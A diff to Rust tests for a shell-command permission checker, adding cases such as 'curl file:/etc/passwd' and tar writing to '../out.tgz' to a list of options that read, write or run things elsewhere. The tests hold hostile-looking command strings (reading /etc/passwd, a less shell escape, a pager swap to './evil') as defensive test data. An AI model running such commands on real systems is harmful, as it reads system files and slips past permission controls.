@@ -146,6 +146,9 @@ fn options_that_run_write_or_read_elsewhere_are_not_ordinary() {
         ("curl", "curl -o x http://example.com"),
         ("curl", "curl -H @/etc/passwd http://example.com"),
         ("curl", "curl file:///etc/passwd"),
+        ("curl", "curl file:/etc/passwd"),
+        ("tar", "tar -czf../out.tgz src"),
+        ("tar", "tar -czf/srv/out.tgz src"),
         ("curl", "curl -K x"),
         ("less", "less +!id a"),
         ("man", "man -P ./evil ls"),
@@ -519,6 +522,7 @@ fn a_command_is_judged_in_its_directory() {
         ("/srv/repo", "Shell(make)", "", false, "make"),
         ("/srv/repo", "Shell(cargo)", "", false, "cargo test"),
         ("/srv/repo", "Shell(./run.sh)", "", false, "./run.sh"),
+        ("/srv/repo", "Shell(./ls)", "", false, "./ls"),
         ("/home/ann/work/a", "", "Shell(touch)", true, "touch k"),
     ] {
         let list = |token: &'static str| if token.is_empty() { Vec::new() } else { vec![token] };
